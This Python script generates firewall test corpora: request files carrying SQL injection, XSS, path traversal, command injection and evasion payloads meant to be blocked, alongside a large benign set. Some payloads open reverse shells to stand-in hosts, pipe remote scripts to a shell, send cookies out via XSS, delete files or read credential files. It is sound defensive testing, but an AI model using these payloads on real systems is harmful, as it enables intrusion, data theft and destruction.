#!/usr/bin/env python3
"""Generates the WAF corpora (JSON lines) beside this file. Deterministic: run it again after
changing a payload list and commit the .jsonl files with it.

Each line is one request: {"method", "uri", "headers": [[name, value]], "body": str|null,
"note"}. attacks-<family>.jsonl must each be refused in block mode at the default threshold;
benign.jsonl must never be."""
import base64, json, random, urllib.parse as up
from pathlib import Path

HERE = Path(__file__).parent
rnd = random.Random(15)
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"

def q(s):
    return up.quote(s, safe="")

def req(method, uri, headers=(), body=None, note=""):
    return {"method": method, "uri": uri, "headers": [list(h) for h in headers], "body": body, "note": note}

def placements(payload, note):
    """The same payload in each place the WAF reads."""
    yield req("GET", f"/search?q={q(payload)}&page=1", [("user-agent", UA)], None, note + " / query")
    yield req("POST", "/comments", [("content-type", "application/json")], json.dumps({"comment": payload, "n": 1}), note + " / json")
    yield req("POST", "/form", [("content-type", "application/x-www-form-urlencoded")], f"name=x&msg={q(payload)}", note + " / form")

# --- SQL injection: tautologies, UNION, stacked queries, time/error based, comments ----------
SQLI = [
    "1' OR '1'='1", "1' OR '1'='1' --", "' OR 1=1--", "\" OR \"\"=\"", "admin'--", "admin' #", "' OR 'x'='x",
    "1 OR 1=1", "1) OR (1=1", "' OR 1=1 LIMIT 1 --", "1' AND 1=1 --", "1' AND '1'='2", "' or ''='",
    "1 UNION SELECT username, password FROM users", "' UNION SELECT NULL,NULL,NULL--", "1' UNION ALL SELECT 1,2,3#",
    "-1 UNION SELECT 1,@@version", "' UNION SELECT table_name FROM information_schema.tables--",
    "1; DROP TABLE users", "1'; DROP TABLE users; --", "'; EXEC xp_cmdshell('dir'); --", "1; SELECT pg_sleep(5)",
    "1' AND SLEEP(5)#", "1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'--", "1' AND BENCHMARK(5000000,MD5(1))#",
    "1' AND extractvalue(1,concat(0x7e,version()))--", "1' AND updatexml(1,concat(0x7e,user()),1)--",
    "' AND 1=CONVERT(int,@@version)--", "1' ORDER BY 3--", "1' GROUP BY 1,2--", "' HAVING 1=1--",
    "1'||(SELECT 1 FROM dual)||'", "' OR username LIKE '%admin%", "1' AND ASCII(SUBSTRING(password,1,1))>64--",
    "1 AND (SELECT COUNT(*) FROM users) > 0", "' OR EXISTS(SELECT * FROM users)--", "1' OR 'a'='a",
    "x' AND email IS NULL; --", "'; INSERT INTO users VALUES('hacker','pw')--", "'; UPDATE users SET role='admin'--",
    "1' AND 1=(SELECT 1 FROM pg_sleep(5))--", "' OR '1'='1'/*", "1' OR 1=1 INTO OUTFILE '/tmp/x'--",
    "' UNION SELECT LOAD_FILE('/etc/passwd')--", "1'; SHUTDOWN--", "') OR ('1'='1", "')) OR (('1'='1",
]
SQLI_EVASIONS = [
    ("UN/**/ION SEL/**/ECT 1,2,3--", "comment inside keywords"), ("1'/**/OR/**/1=1--", "comments as spaces"),
    ("1' /*!50000UNION*/ /*!50000SELECT*/ 1,2--", "MySQL versioned comment"), ("1' oR '1'='1", "mixed case"),
    ("1' UnIoN sElEcT 1,2,3--", "mixed case union"), ("%27%20OR%20%271%27%3D%271", "url-encoded payload"),
    ("%2527%2520OR%25201%253D1--", "double url encoding"), ("1%2527%2520UNION%2520SELECT%25201%252C2--", "double encoded union"),
    ("1'%0aOR%0a1=1--", "newline whitespace"), ("1'\tOR\t1=1--", "tab whitespace"),
    ("&#x27; OR 1=1--", "html entity quote"), ("\uff07 OR 1=1--", "full-width quote"),
]

# --- XSS -----------------------------------------------------------------------------
XSS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(document.domain)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<div style=\"background:url(javascript:alert(1))\">",
    "<form action=javascript:alert(1)><input type=submit>", "<base href=javascript:alert(1)//>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>", "<isindex action=javascript:alert(1) type=image>",
    "<style>@import 'javascript:alert(1)';</style>", "<textarea onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>", "<audio src=x onerror=alert(1)>", "<table background=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<script>document.location='//evil/?c='+document.cookie</script>",
    "<img src=\"x\" onerror=\"fetch('//evil/'+document.cookie)\">", "\" onmouseover=\"alert(1)", "' onclick='alert(1)",
    "javascript:alert(1)", "<svg><script>alert(1)</script></svg>", "<scr<script>ipt>alert(1)</script>",
]
XSS_EVASIONS = [
    ("<ScRiPt>alert(1)</sCrIpT>", "mixed case"), ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "url-encoded"),
    ("%253Cscript%253Ealert(1)%253C%252Fscript%253E", "double url encoding"), ("&lt;script&gt;alert(1)&lt;/script&gt;", "html entities"),
    ("&#60;img src=x onerror=alert(1)&#62;", "decimal entities"), ("&#x3C;svg onload=alert(1)&#x3E;", "hex entities"),
    ("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "js escapes"), ("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "full-width brackets"),
    ("<img%0asrc=x%0aonerror=alert(1)>", "newlines in tag"), ("<svg\tonload=alert(1)>", "tab in tag"),
]

# --- path traversal and OS files ----------------------------------------------------------
TRAVERSAL = [
    "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../../../../etc/shadow", "/etc/passwd", "....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252f..%252fetc%252fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fhosts", "%252e%252e%252fboot.ini",
    "..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%c0%af..%c0%afetc",
    "/var/www/../../etc/passwd", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
    "C:\\Windows\\System32\\config\\SAM", "../.env/../.git/config", "/proc/self/environ", "../../../../proc/version",
    "..././..././etc/passwd", "/../../../../../../../../boot.ini", "../WEB-INF/web.xml/../web.config", "~/.ssh/id_rsa",
    "../../.aws/credentials", "/home/user/.bash_history", "%2E%2E/%2E%2E/etc/group", "..%u2215..%u2215etc%u2215passwd",
    "..%255c..%255cboot.ini", "/static/..%2f..%2f..%2fetc/passwd", "phar://uploads/x.jpg", "expect://id",
]

# --- command injection --------------------------------------------------------------------
CMDI = [
    "; cat /etc/passwd", "| id", "|| whoami", "&& uname -a", "`id`", "$(whoami)", "; ls -la /", "| nc evil.example 4444 -e /bin/sh",
    "; wget http://evil.example/x.sh -O /tmp/x", "; curl http://evil.example/x | sh", "& ping -n 5 127.0.0.1", "; sleep 10",
    "| bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "; python -c 'import os'", "; perl -e 'print 1'", "&& chmod 777 /tmp/x",
    "; rm -rf /", "$(curl evil.example)", "`cat /etc/shadow`", "; echo $PATH", "127.0.0.1; id", "127.0.0.1 && whoami",
    "x|/bin/bash -c id", "; /usr/bin/id", ";${IFS}cat${IFS}/etc/passwd", "& type c:\\boot.ini", "| dir c:\\", "& cmd /c whoami",
    "| powershell -enc SQBFAFgA", "& ipconfig /all", "; systeminfo", "| certutil -urlcache -f http://evil/x x.exe",
    "; find / -name '*.conf'", "| head -n 5 /etc/passwd", "; env", "&& base64 /etc/hosts", "; socat tcp:evil:1 exec:sh",
    "\nid\n", "%0aid", "; sudo -l",
]
CMDI_EVASIONS = [("%3B%20cat%20%2Fetc%2Fpasswd", "url-encoded"), ("%253B%2520whoami", "double encoded"),
                 ("; CaT /etc/passwd", "mixed case"), ("$(WhOaMi)", "mixed case substitution")]

# --- protocol anomalies -------------------------------------------------------------------
def protocol_cases():
    out = []
    for p in ["a%00b", "file.php%00.jpg", "%00", "x%2500y", "admin%00"]:
        for name in ["f", "file", "id"]:
            out.append(req("GET", f"/download?{name}={p}", [], None, "NUL byte"))
    for p in ["x%0d%0aSet-Cookie:%20a=b", "x%0aLocation:%20http://evil", "%0d%0aX-Injected:%201", "a%0d%0a%0d%0aHTTP/1.1%20200"]:
        for name in ["redirect", "next", "lang"]:
            out.append(req("GET", f"/r?{name}={p}", [], None, "header injection"))
    for p in ["%01%02", "\x01", "%7f%7f", "%1b[31m"]:
        # a control character (3) plus invalid URL encoding (3) in one request
        out.append(req("GET", f"/x?a={up.quote(p, safe='%')}&b=100%zz", [], None, "control char + bad encoding"))
    out.append(req("GET", "/x?a=%uFF1Cb%uFF1E&b=%zz", [], None, "full-width %u + bad encoding"))
    out.append(req("GET", "/x?a=%uFF0E%uFF0E&b=%01", [], None, "full-width %u + control char"))
    out.append(req("GET", "/x?a=%zz%01", [("content-length", "0")], None, "bad encoding + control"))
    return out

def build_attacks():
    fams = {}
    def fam(name, payloads, evasions=()):
        cases = []
        for p in payloads:
            cases += list(placements(p, name))
        for p, how in evasions:
            # Pre-encoded payloads go into the URL as they are; the others are encoded once.
            raw_uri = "%" in p
            cases.append(req("GET", f"/search?q={up.quote(p, safe='%') if raw_uri else q(p)}", [], None, f"{name} evasion: {how}"))
            cases.append(req("POST", "/api", [("content-type", "application/json")], json.dumps({"v": p}), f"{name} evasion: {how} / json"))
        fams[name] = cases
    fam("sqli", SQLI, SQLI_EVASIONS)
    fam("xss", XSS, XSS_EVASIONS)
    # traversal payloads are often already encoded: put them in the URL verbatim
    cases = []
    for p in TRAVERSAL:
        raw = p.replace("\\", "%5c")
        cases.append(req("GET", f"/files?name={raw}", [], None, "path_traversal / query"))
        cases.append(req("GET", f"/download?file={q(p)}&v=2", [], None, "path_traversal / query encoded"))
        cases.append(req("POST", "/files", [("content-type", "application/json")], json.dumps({"path": p}), "path_traversal / json"))
    fams["path_traversal"] = cases
    fam("command_injection", CMDI, CMDI_EVASIONS)
    fams["protocol"] = protocol_cases()
    # Evasions named by the issue, in the places it names.
    ev = []
    ev.append(req("GET", "/", [("cookie", "session=abc; pref=" + q("' UNION SELECT password FROM users--"))], None, "sqli in a cookie"))
    ev.append(req("GET", "/", [("cookie", "theme=%3Cscript%3Ealert(1)%3C/script%3E")], None, "xss in a cookie"))
    ev.append(req("GET", "/", [("user-agent", "() { :; }; /bin/bash -c 'id'")], None, "shellshock user-agent"))
    ev.append(req("GET", "/", [("referer", "http://x/?q=<script>alert(1)</script>")], None, "xss in referer"))
    ev.append(req("GET", "/", [("x-forwarded-for", "1.2.3.4' OR 1=1--")], None, "sqli in x-forwarded-for"))
    ev.append(req("POST", "/upload", [("content-type", "multipart/form-data; boundary=----b0und")],
                  "------b0und\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n1' UNION SELECT 1,2--\r\n------b0und--\r\n", "sqli in a multipart field"))
    ev.append(req("POST", "/upload", [("content-type", "multipart/form-data; boundary=XX")],
                  "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\nContent-Type: application/octet-stream\r\n\r\n\x00\x01\r\n--XX--\r\n", "traversal in a multipart file name"))
    ev.append(req("POST", "/soap", [("content-type", "text/xml")], "<r><name>&lt;script&gt;alert(1)&lt;/script&gt;</name></r>", "xss in XML text"))
    ev.append(req("POST", "/soap", [("content-type", "application/xml")], "<r id=\"1' OR '1'='1\"/>", "sqli in an XML attribute"))
    ev.append(req("POST", "/api", [("content-type", "application/json")], '{"\\u003cscript\\u003e":"x"}', "xss in a JSON key"))
    ev.append(req("GET", "/search?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1", [], None, "xss in a parameter name"))
    fams["evasions"] = ev
    return fams

# --- benign -------------------------------------------------------------------------------
FIRST = ["Liam", "Olivia", "Seán", "Zoë", "José", "Ava", "Björn", "François", "Nguyễn", "Aarav", "Mei", "Łukasz", "Chloé", "Søren", "Ana-María"]
LAST = ["O'Brien", "D'Angelo", "O'Neil", "Smith", "García", "Müller", "van der Berg", "N'Diaye", "Dell'Acqua", "Johnson-Smith", "Ó Súilleabháin", "L'Estrange", "Øster", "山田", "Иванов"]
TEXT = [
    "Please select the blue one", "union meeting moved to Tuesday", "drop off the parcel at the front desk",
    "the script for the school play is attached", "Select all that apply", "Where do I drop my keys?",
    "I'd like to update my address, please", "Can you delete my old card?", "The union of both sets is empty",
    "order by Friday or it won't ship", "insert the card and wait", "Table for two at 7pm, and can we get a high chair?",
    "It's 5 o'clock somewhere", "Rock & roll", "Salt & pepper; cat food too", "Tom & Jerry", "Q&A session at 3",
    "Price < $20 and rating > 4", "1 + 1 = 2", "50% off everything!", "Don't forget: bring ID", "Call me at +1 (555) 123-4567",
    "Meeting notes - action items: 1) review 2) sign", "She said \"hello\" and left", "Use the left door (the one by the window)",
    "I can't log in since yesterday's update", "from 9 to 5, Mon-Fri", "and/or", "either/or decisions", "yes/no",
    "the 'best' option", "C'est la vie", "l'hôtel est à côté de la gare", "Größe: 42, Farbe: schwarz", "東京都渋谷区",
    "Привет, как дела?", "مرحبا", "😀 great service 👍", "naïve café résumé", "ﬁne print", "½ price",
    "SELECT your seat before boarding", "We should drop the price and union the teams", "the script ran fine",
    "javascript developer wanted", "Script writer, drop-in sessions", "my password was reset twice",
    "The exec committee meets on the 3rd", "update: shipped!", "where is my order #1234?", "Order 66 shipped",
    "Dear team, please find attached the report.", "alert: low stock on item 42", "on error, try again",
    "onload times are slow", "the <b>bold</b> claim", "x < y and y > z", "see https://example.com/docs?a=1&b=2",
    "email me at jane.doe+test@example.co.uk", "10/12/2024", "2024-05-01T10:00:00Z", "it's my dad's birthday",
    "Mr. O'Reilly's book", "the dog's toy; the cat's bed", "rock-n-roll", "I'm 6' 2\" tall", "room 3-B, 2nd floor",
    "Sleep well", "Ping me later", "Find my order", "cat pictures please", "id card", "Echo dot", "The head chef",
    "hello; world", "one | two | three", "pros & cons", "R&D", "AT&T", "M&Ms", "Ben & Jerry's",
    "It was the best of times...", "wait... what?", "etc.", "path/to/file.txt", "docs/readme.md", "images/2024/cat.png",
    "Use the --verbose flag", "the -1 index", "a - b", "'quoted'", "\"double quoted\"", "(parenthetical)", "[bracketed]",
    "{braced}", "#hashtag", "@mention", "~approximately 5", "^caret", "100% cotton", "3 * 4 = 12", "x = y", "a==b",
    "Null and void", "true", "false", "none", "N/A", "TBD", "-", "--", "...", "?", "!", "O'", "'", "\"",
]
WORDS = "shirt blue red size medium large shoes running kitchen table chair lamp desk garden hose book novel guide coffee tea mug phone case charger cable laptop bag".split()
EMAILS = ["jane.doe@example.com", "o'brien@example.ie", "bob+tag@example.org", "a.b@sub.example.co.uk"]
PATHS = ["/v1/orders", "/v1/orders/12345", "/v1/customers/cus_9f8e7d", "/v2/products/sku-001/reviews", "/api/search",
         "/users/me", "/v1/invoices/2024/05", "/static/app.9f8e7d.js", "/health", "/v1/carts/c-1/items/3", "/files/report-2024.pdf",
         "/v1/orders/..well-known", "/docs/getting-started", "/v1/tags/c%23", "/v1/people/O'Brien"]
UAS = [UA, "curl/8.5.0", "python-requests/2.31.0", "okhttp/4.12.0", "PostmanRuntime/7.36.0", "Go-http-client/1.1",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
       "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)",
       "Apache-HttpClient/4.5.14 (Java/17.0.9)", "axios/1.6.8", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"]

def b64(n):
    return base64.b64encode(bytes(rnd.randrange(256) for _ in range(n))).decode()

def jwt():
    seg = lambda o: base64.urlsafe_b64encode(json.dumps(o).encode()).decode().rstrip("=")
    return f"{seg({'alg': 'RS256', 'typ': 'JWT', 'kid': 'k1'})}.{seg({'sub': 'user-' + str(rnd.randrange(10**6)), 'scope': 'orders.read', 'exp': 1900000000})}.{base64.urlsafe_b64encode(bytes(rnd.randrange(256) for _ in range(64))).decode().rstrip('=')}"

def name():
    return f"{rnd.choice(FIRST)} {rnd.choice(LAST)}"

def value():
    kind = rnd.randrange(12)
    return [lambda: rnd.choice(TEXT), name, lambda: rnd.choice(EMAILS), lambda: f"https://example.com/{rnd.choice(WORDS)}?ref={rnd.randrange(999)}&utm_source=news",
            lambda: b64(rnd.randrange(8, 48)), jwt, lambda: f"2024-{rnd.randrange(1,13):02}-{rnd.randrange(1,29):02}",
            lambda: f"{rnd.randrange(1,13)}/{rnd.randrange(1,29)}/2024 {rnd.randrange(24)}:{rnd.randrange(60):02}",
            lambda: " ".join(rnd.sample(WORDS, 3)), lambda: str(rnd.randrange(10**6)), lambda: f"{rnd.uniform(0, 999):.2f}",
            lambda: rnd.choice(TEXT) + " " + rnd.choice(TEXT)][kind]()

def benign():
    out = []
    # every text on its own, as a query value and as JSON
    for t in TEXT + LAST:
        out.append(req("GET", f"/api/search?q={q(t)}&limit=20", [("user-agent", rnd.choice(UAS))], None, "text in query"))
        out.append(req("POST", "/v1/notes", [("content-type", "application/json")], json.dumps({"note": t, "author": name()}), "text in json"))
    for path in PATHS:
        out.append(req("GET", path, [("user-agent", rnd.choice(UAS)), ("accept", "application/json")], None, "path"))
    for ua in UAS:
        out.append(req("GET", "/v1/orders?page=1", [("user-agent", ua), ("referer", "https://portal.example.com/orders?tab=open&sort=-date")], None, "user agent"))
    while len(out) < 1200:
        k = rnd.randrange(6)
        if k == 0:
            params = "&".join(f"{p}={q(value())}" for p in rnd.sample(["q", "name", "since", "until", "sort", "filter", "cursor", "token", "redirect", "email", "note"], 3))
            out.append(req("GET", f"{rnd.choice(PATHS)}?{params}", [("user-agent", rnd.choice(UAS))], None, "query"))
        elif k == 1:
            doc = {"customer": {"name": name(), "email": rnd.choice(EMAILS)}, "items": [{"sku": f"SKU-{rnd.randrange(10**5):05}", "qty": rnd.randrange(1, 5), "note": value()} for _ in range(rnd.randrange(1, 4))], "comment": value(), "placed_at": f"2024-0{rnd.randrange(1,10)}-1{rnd.randrange(10)}T08:00:00+02:00"}
            out.append(req("POST", "/v1/orders", [("content-type", "application/json"), ("user-agent", rnd.choice(UAS))], json.dumps(doc, ensure_ascii=rnd.random() < 0.5), "json order"))
        elif k == 2:
            out.append(req("POST", "/v1/profile", [("content-type", "application/x-www-form-urlencoded")], f"name={q(name())}&bio={q(value())}&website={q('https://example.com/~' + rnd.choice(WORDS))}", "form"))
        elif k == 3:
            out.append(req("GET", "/v1/me", [("cookie", f"session={b64(24)}; theme=dark; lang=en-GB; last_search={q(value())}")], None, "cookies"))
        elif k == 4:
            bnd = "----WebKitFormBoundary" + b64(12).replace("+", "x").replace("/", "y").replace("=", "z")
            body = f"--{bnd}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{value()}\r\n--{bnd}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{rnd.choice(WORDS)} report (final).pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 binary\r\n--{bnd}--\r\n"
            out.append(req("POST", "/v1/uploads", [("content-type", f"multipart/form-data; boundary={bnd}")], body, "multipart"))
        else:
            t = value().replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            out.append(req("POST", "/soap/contacts", [("content-type", "text/xml; charset=utf-8")], f"<?xml version=\"1.0\"?><Envelope><Body><UpdateContact id=\"{rnd.randrange(999)}\"><Name>{name()}</Name><Note>{t}</Note></UpdateContact></Body></Envelope>", "xml"))
    return out

def write(name, rows):
    with open(HERE / name, "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")

if __name__ == "__main__":
    for fam, rows in build_attacks().items():
        write(f"attacks-{fam}.jsonl", rows)
    write("benign.jsonl", benign())
